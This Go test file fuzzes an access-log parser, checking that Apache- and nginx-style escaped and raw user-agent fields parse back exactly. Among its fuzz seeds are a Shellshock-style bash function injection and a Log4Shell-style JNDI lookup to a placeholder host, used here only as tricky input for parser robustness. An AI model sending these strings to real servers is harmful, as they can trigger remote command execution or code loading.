package accesslog

import (
	"fmt"
	"strings"
	"testing"
)

// apacheEscape writes s the way Apache's ap_escape_logitem does: \" and \\, C escapes for
// \b \n \r \t \v, and \xhh for other bytes outside printable ASCII.
func apacheEscape(s string) string {
	var b strings.Builder
	for i := 0; i < len(s); i++ {
		switch c := s[i]; {
		case c == '"' || c == '\\':
			b.WriteByte('\\')
			b.WriteByte(c)
		case c == '\b':
			b.WriteString(`\b`)
		case c == '\n':
			b.WriteString(`\n`)
		case c == '\r':
			b.WriteString(`\r`)
		case c == '\t':
			b.WriteString(`\t`)
		case c == '\v':
			b.WriteString(`\v`)
		case c < 0x20 || c >= 0x7f:
			fmt.Fprintf(&b, `\x%02x`, c)
		default:
			b.WriteByte(c)
		}
	}
	return b.String()
}

// nginxEscape writes s the way nginx's default log escaping does: \xXX for '"', '\', control
// bytes and bytes from 0x7F.
func nginxEscape(s string) string {
	var b strings.Builder
	for i := 0; i < len(s); i++ {
		if c := s[i]; c == '"' || c == '\\' || c < 0x20 || c >= 0x7f {
			fmt.Fprintf(&b, `\x%02X`, c)
		} else {
			b.WriteByte(c)
		}
	}
	return b.String()
}

// FuzzRoundTrip writes arbitrary request lines, referrers, user agents and users with each
// server's escaping and checks that parsing gives back exactly what was written: whatever a
// client sends, the server's escaping keeps the field boundaries and the parser finds them.
func FuzzRoundTrip(f *testing.F) {
	f.Add("GET /a?b=c HTTP/1.1", "https://ref.example/", "Mozilla/5.0 (X11)", "alice", "1.2.3.4", true)
	f.Add(`GET /a"b HTTP/1.1`, `-`, `ua with "quotes" and \ backslash`, "CORP\\bob", "2001:db8::1", false)
	f.Add("\x16\x03\x01\x00", "\xff\xfe", "\n\r\t\x00", "a\"b", "host.example", true)
	f.Add("", "", "", `""`, "::1", false)
	f.Fuzz(func(t *testing.T, req, ref, ua, user, client string, apache bool) {
		esc := nginxEscape
		if apache {
			esc = apacheEscape
		}
		user = esc(user)
		if user == "" || strings.ContainsAny(user, " [") || !isHostText(client, false) || strings.Contains(client, "[") {
			t.Skip() // neither server logs an empty user; spaces in a user name are refused by design
		}
		line := fmt.Sprintf(`%s - %s [02/Mar/2026:10:00:00 +0000] "%s" 200 5 "%s" "%s"`, client, user, esc(req), esc(ref), esc(ua))
		var p parser
		if why := p.parse(line); why != "" {
			t.Fatalf("%q: %s", line, why)
		}
		if p.f.request != req || p.f.referrer != ref || p.f.userAgent != ua || !p.f.combined || len(p.f.trailing) != 0 {
			t.Fatalf("%q: got request %q referrer %q agent %q", line, p.f.request, p.f.referrer, p.f.userAgent)
		}
		if p.f.client != client || p.f.user != user {
			t.Fatalf("%q: got client %q user %q", line, p.f.client, p.f.user)
		}
	})
}

// FuzzUnescapedUserAgent writes arbitrary user agents as a server without escaping would, raw
// quotes included, and checks that the line is read with exactly that user agent: the last
// field of a combined line ends at the line's last quote. A user agent holding a quote followed
// by a space (which can be a field boundary), a backslash, a byte either server would escape or
// more quotes than the search reads is skipped.
func FuzzUnescapedUserAgent(f *testing.F) {
	f.Add(`() { :; }; /bin/bash -c "id"`)
	f.Add(`${jndi:ldap://x.example/"a"}`)
	f.Add(`Mozilla/5.0 "evil"agent`)
	f.Add(`""`)
	f.Fuzz(func(t *testing.T, ua string) {
		if strings.Contains(ua, `" `) || strings.HasPrefix(ua, " ") || strings.ContainsAny(ua, "\\") || !isText(ua) ||
			strings.Count(ua, `"`) > maxFieldQuotes-3 { // the referrer's closing and the user agent's quotes count too
			t.Skip()
		}
		line := `192.0.2.1 - - [02/Mar/2026:10:00:00 +0000] "GET / HTTP/1.1" 200 5 "-" "` + ua + `"`
		var p parser
		if why := p.parse(line); why != "" {
			t.Fatalf("%q: %s", line, why)
		}
		if p.f.userAgent != ua || p.f.referrer != "-" || len(p.f.trailing) != 0 {
			t.Fatalf("%q: got referrer %q agent %q extra %q", line, p.f.referrer, p.f.userAgent, p.f.trailing)
		}
	})
}
